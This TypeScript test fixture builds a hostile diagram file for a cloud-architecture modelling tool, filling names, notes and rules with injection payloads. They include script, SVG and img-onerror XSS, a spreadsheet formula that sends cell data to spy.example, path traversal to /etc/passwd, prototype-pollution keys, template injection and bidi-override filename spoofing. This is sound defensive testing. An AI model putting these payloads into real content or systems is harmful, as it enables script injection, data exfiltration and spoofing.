// A diagram of somebody who means harm: each word in it tries something. Services are real, so that findings show.

const RUN = (by: string) => `globalThis.harmed='${by}'`;

/** Turns what follows it, never turned back; and more ends of directions than there were beginnings. */
export const TURNED = 'turned \u202Egnp.exe';
export const UNBALANCED = '\u2069\u202C\u2066\u202Eabc';

export const NAMES = {
  script: `<script>${RUN('script')}</script>`,
  svg: `"><svg onload="${RUN('svg')}">`,
  image: `'><img src=x onerror=${RUN('image')}>`,
  formula: '=HYPERLINK("https://spy.example/?"&A1,"click")',
  path: '../../../etc/passwd',
  control: '\u0000\u001B[31mred\u0007\u009B2J',
  prototype: '__proto__',
  template: `{{constructor.constructor("${RUN('template')}")()}} $\{7*7} %s`,
  link: '[click](javascript:alert(1)) ![x](https://spy.example/x.png)',
} as const;

const HARM = Object.values(NAMES).join(' ');

const resource = (id: string, service: string, name: string, x: number, y: number, more: object = {}) => ({
  id,
  service,
  name,
  inside: 'around',
  position: { x, y },
  ...more,
});

/** The text of the file. */
export const HOSTILE_FILE = JSON.stringify({
  format: 'parapet',
  version: 1,
  name: `${NAMES.script} ${TURNED}`,
  boundaries: [
    {
      id: 'around',
      kind: 'vpc',
      name: `${NAMES.image} ${TURNED}`,
      position: { x: 0, y: 0 },
      size: { width: 1200, height: 700 },
      note: HARM,
    },
  ],
  resources: [
    resource('constructor', 's3', TURNED, 40, 80, {
      badge: UNBALANCED,
      note: HARM,
      answers: { blockPublicAccess: 'none', encryption: HARM },
    }),
    resource('__proto__', 'kinesis-data-streams', NAMES.svg, 340, 80, { badge: '<b>prod</b>' }),
    resource('toString', 'lambda', NAMES.control, 640, 80, { answers: { toString: HARM, constructor: [UNBALANCED] } }),
    resource('d', 'redshift', UNBALANCED, 40, 280),
    resource('e', NAMES.svg, NAMES.formula, 340, 280),
    resource('f', 'glue', NAMES.path, 640, 280),
    resource('g', 'sqs', NAMES.prototype, 40, 480),
    resource('h', 'sns', NAMES.template, 340, 480),
    resource('i', 'dynamodb', NAMES.link, 640, 480),
  ],
  flows: [
    { id: 'valueOf', from: 'constructor', to: '__proto__', label: `${NAMES.image} ${TURNED}`, note: HARM },
    { id: 'k', from: '__proto__', to: 'toString', label: UNBALANCED },
    { id: 'l', from: 'g', to: 'h' },
  ],
  texts: [
    {
      id: 't',
      text: `${TURNED}\n${HARM}`,
      style: 'note',
      position: { x: 900, y: 40 },
      size: { width: 240, height: 160 },
    },
  ],
  rules: [
    {
      id: '__proto__',
      name: `${NAMES.script} ${NAMES.link} ${TURNED}`,
      question: { from: { kind: 'resource', id: '__proto__' }, to: { kind: 'resource', id: 'constructor' } },
    },
    { id: 'r', question: { from: { kind: 'service', service: NAMES.svg }, to: { kind: 'resource', id: TURNED } } },
  ],
  suppressions: [
    {
      control: 's3.block-public-access',
      element: 'constructor',
      kind: 'riskAccepted',
      justification: `${HARM} ${TURNED}`,
      owner: TURNED,
      decidedOn: '2026-11-01',
      expiresOn: null,
      facts: null,
    },
  ],
});
